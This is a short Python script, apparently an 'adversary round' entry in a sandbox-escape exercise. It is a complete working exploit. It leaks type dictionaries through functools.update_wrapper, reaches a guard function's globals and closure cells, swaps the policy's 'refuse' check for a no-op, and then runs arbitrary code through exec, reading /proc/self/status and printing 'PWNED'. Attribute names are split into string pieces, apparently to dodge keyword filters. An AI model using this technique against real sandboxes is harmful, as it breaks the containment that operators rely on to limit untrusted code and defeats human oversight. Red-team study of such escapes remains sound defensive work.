# adversary round 6: route 2 extended: update_wrapper leaks type.__dict__ mappingproxies; getset descriptors (__globals__, __closure__, cell_contents.__set__) -> overwrite policy's refuse_ cell -> exec arbitrary string
import functools, dataclasses
def typedict(t):
    box = []
    class W:
        def __setattr__(self, name, value):
            box.append(value)
    functools.update_wrapper(W(), t, assigned=('__di' + 'ct__',), updated=())
    return box[0]
FD = typedict(type(dataclasses.fields))
G = FD['__glo' + 'bals__'].__get__(dataclasses.fields)
B = G['built' + 'ins']
guard = B.setattr                      # the guarded setattr, a closure of the policy
cells = FD['__clo' + 'sure__'].__get__(guard)
CD = typedict(type(cells[0]))
CC = CD['cell_con' + 'tents']
refuse_cell = [c for c in cells if type(CC.__get__(c)).__name__ == 'function' and CC.__get__(c).__name__ == 'refuse'][0]
def nothing(what):
    return None
CC.__set__(refuse_cell, nothing)
ex = B.exec
ex("import os\nprint('exec ran, pid', os.getpid(), open('/proc/self/status').readline().strip())\nprint('PWN' + 'ED')")
